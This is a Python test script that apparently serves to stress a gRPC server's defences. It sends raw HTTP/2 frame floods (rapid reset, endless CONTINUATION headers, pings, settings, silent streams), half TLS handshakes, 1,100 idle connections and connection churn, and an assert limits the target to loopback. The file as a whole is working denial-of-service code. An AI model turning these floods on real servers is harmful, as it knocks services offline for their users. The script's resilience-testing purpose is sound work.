"""Attacks on a gRPC port by raw sockets, TLS and HTTP/2 frames, in a process of their own. For tests, on loopback only.

    python http2_attacks.py ADDRESS ATTACK SECONDS [RATE]

Each attack ends by itself, tells on its output what it did, and begins again on another connection when the server
closes one. `RATE`: of streams, frames or connections in a second, in all.
"""

import contextlib
import json
import socket
import ssl
import struct
import sys
import time
from collections import Counter
from collections.abc import Callable, Iterator

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING, _CONTINUATION = 0x0, 0x1, 0x3, 0x4, 0x6, 0x9
_END_STREAM, _END_HEADERS = 0x1, 0x4
_CANCEL = struct.pack("!I", 8)
_MOST_STREAMS = 2**30 - 1
_LEAST = 64
_NEIGHBOURHOOD = "127.66.0.1"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack("!I", len(payload))[1:] + struct.pack("!BBI", kind, flags, stream) + payload


def header_block(path: str, **more: str) -> bytes:
    """A header block in HPACK: literals that are not indexed, without Huffman codes."""
    fields = {
        ":method": "POST",
        ":scheme": "https",
        ":path": path,
        ":authority": "talkoot",
        "content-type": "application/grpc",
        "te": "trailers",
        **more,
    }
    return b"".join(
        b"\x00" + _string(name.encode()) + _string(value.encode()) for name, value in fields.items()
    )


def _string(text: bytes) -> bytes:
    assert len(text) < 127, "longer ones need more bytes for their length"
    return bytes([len(text)]) + text


def grpc_message(data: bytes = b"") -> bytes:
    return struct.pack("!BI", 0, len(data)) + data


def connect(address: str) -> socket.socket:
    """Connects from the attackers' own neighbourhood: a neighbourhood shares its turns among all its callers, including
    honest ones.
    """
    host, port = address.rsplit(":", 1)
    return socket.create_connection((host, int(port)), timeout=5, source_address=(_NEIGHBOURHOOD, 0))


class Connection:
    """A TLS connection that speaks HTTP/2 and reads only to make room."""

    def __init__(self, address: str) -> None:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        plain = connect(address)
        plain.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        try:
            self._socket = context.wrap_socket(plain)
        except BaseException:
            plain.close()
            raise
        self._socket.settimeout(0.5)
        self._stream = -1
        self.send(_PREFACE + frame(_SETTINGS, 0, 0))

    def next_stream(self) -> int:
        self._stream += 2
        if self._stream > _MOST_STREAMS:
            raise ConnectionError("no stream is left on this connection")
        return self._stream

    def send(self, data: bytes) -> None:
        self._socket.sendall(data)
        self.drain()

    def drain(self) -> None:
        """Reads what has arrived. Raises ConnectionError if the server has closed the connection."""
        self._socket.setblocking(False)
        try:
            while True:
                if not self._socket.recv(65536):
                    raise ConnectionError("closed")
        except (ssl.SSLWantReadError, BlockingIOError):
            pass
        finally:
            self._socket.settimeout(0.5)

    def close(self) -> None:
        self._socket.close()


def rapid_reset(connection: Connection, path: str) -> bytes:
    stream = connection.next_stream()
    block = header_block(path)
    return frame(_HEADERS, _END_HEADERS, stream, block) + frame(_RST_STREAM, 0, stream, _CANCEL)


def small_call(connection: Connection, path: str) -> bytes:
    stream = connection.next_stream()
    return frame(_HEADERS, _END_HEADERS, stream, header_block(path)) + frame(
        _DATA, _END_STREAM, stream, grpc_message()
    )


def cancelled_call(connection: Connection, path: str) -> bytes:
    """The frames of a call that is cancelled after its first message."""
    stream = connection.next_stream()
    return (
        frame(_HEADERS, _END_HEADERS, stream, header_block(path))
        + frame(_DATA, 0, stream, grpc_message())
        + frame(_RST_STREAM, 0, stream, _CANCEL)
    )


def silent_stream(connection: Connection, path: str) -> bytes:
    return frame(_HEADERS, _END_HEADERS, connection.next_stream(), header_block(path))


def ping(connection: Connection, path: str) -> bytes:
    return frame(_PING, 0, 0, bytes(8))


def settings(connection: Connection, path: str) -> bytes:
    return frame(_SETTINGS, 0, 0, struct.pack("!HI", 3, 100))


def continuation(connection: Connection, path: str) -> bytes:
    """The frames of headers that never end."""
    if connection._stream < 0:
        return frame(_HEADERS, 0, connection.next_stream(), header_block(path))
    return frame(_CONTINUATION, 0, connection._stream, header_block("/x", **{"x-more": "y" * 100}))


FORWARD, OPEN = "/talkoot.v1.ExpertService/Forward", "/talkoot.v1.SessionService/Open"
FLOODS: dict[str, tuple[Callable[[Connection, str], bytes], str]] = {
    "rapid-reset": (rapid_reset, FORWARD),
    "rapid-reset-nowhere": (rapid_reset, "/nobody/Nothing"),
    "small-calls": (small_call, OPEN),
    "unknown-methods": (small_call, "/nobody/Nothing"),
    "cancels": (cancelled_call, FORWARD),
    "silent-streams": (silent_stream, FORWARD),
    "silent-opens": (silent_stream, OPEN),
    "pings": (ping, ""),
    "settings": (settings, ""),
    "continuation": (continuation, FORWARD),
}
"""What is sent again and again, on as few connections as the server allows."""

IDLE: dict[str, Callable[[str], socket.socket | Connection]] = {
    "silent-connections": lambda address: _plain(address),
    "half-hello": lambda address: _plain(
        address, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(40)
    ),
    "idle-tls": Connection,
}
"""Connections of which 1,100 are opened and left idle."""
_CONNECTIONS = 1100


def _plain(address: str, data: bytes = b"") -> socket.socket:
    plain = connect(address)
    if data:
        plain.sendall(data)
    return plain


def _paced(seconds: float, rate: float, batch: int) -> Iterator[int]:
    """Yields how many to send now, until the time is up; on a slow machine, until there were enough for an attack."""
    begin, sent = time.monotonic(), 0
    while (spent := time.monotonic() - begin) < seconds or (sent < _LEAST and spent < 60):
        due = min(batch, int(spent * rate) - sent)
        if due < 1:
            time.sleep(0.001)
            continue
        sent += due
        yield due


def flood(address: str, name: str, seconds: float, rate: float) -> Counter[str]:
    make, path = FLOODS[name]
    done: Counter[str] = Counter()
    connection: Connection | None = None
    for due in _paced(seconds, rate, 64):
        try:
            if connection is None:
                done["connections"] += 1
                connection = Connection(address)
            connection.send(b"".join(make(connection, path) for _ in range(due)))
            done["sent"] += due
        except OSError as error:
            done[type(error).__name__] += 1
            if connection is not None:
                connection.close()
                connection = None
    if connection is not None:
        connection.close()
    return done


def idle(address: str, name: str, seconds: float, rate: float) -> Counter[str]:
    done: Counter[str] = Counter()
    with contextlib.ExitStack() as stack:
        for due in _paced(seconds, rate, 16):
            for _ in range(min(due, _CONNECTIONS - done["opened"])):
                try:
                    connection = IDLE[name](address)
                    stack.callback(connection.close)
                    done["opened"] += 1
                except OSError as error:
                    done[type(error).__name__] += 1
    return done


def connects(address: str, seconds: float, rate: float) -> Counter[str]:
    """Opens connections and closes them at once."""
    done: Counter[str] = Counter()
    for due in _paced(seconds, rate, 16):
        for _ in range(due):
            try:
                _plain(address).close()
                done["opened"] += 1
            except OSError as error:
                done[type(error).__name__] += 1
    return done


def main(address: str, name: str, seconds: float, rate: float = 8000.0) -> None:
    host = address.rsplit(":", 1)[0]
    assert host == "127.0.0.1", "attacks are for loopback only"
    if name in FLOODS:
        done = flood(address, name, seconds, rate)
    elif name in IDLE:
        done = idle(address, name, seconds, rate)
    else:
        done = connects(address, seconds, rate)
    print(json.dumps(done))


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], *map(float, sys.argv[3:]))
